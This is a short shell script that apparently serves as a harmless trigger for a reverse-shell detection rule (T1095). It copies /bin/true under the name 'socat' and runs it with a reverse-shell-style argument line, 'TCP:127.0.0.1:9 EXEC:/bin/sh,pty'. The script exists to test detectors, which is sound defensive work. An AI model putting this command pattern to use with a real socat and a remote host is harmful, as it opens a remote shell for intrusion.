#!/bin/sh
# what: Asks a program called socat to join a shell and a connection; it does nothing.
# rule: reverse_shell_command_line
# technique: T1095
# severity: high
# where: both
d=$(mktemp -d)
trap 'rm -rf "$d"' EXIT
cp /bin/true "$d/socat"
"$d/socat" TCP:127.0.0.1:9 EXEC:/bin/sh,pty
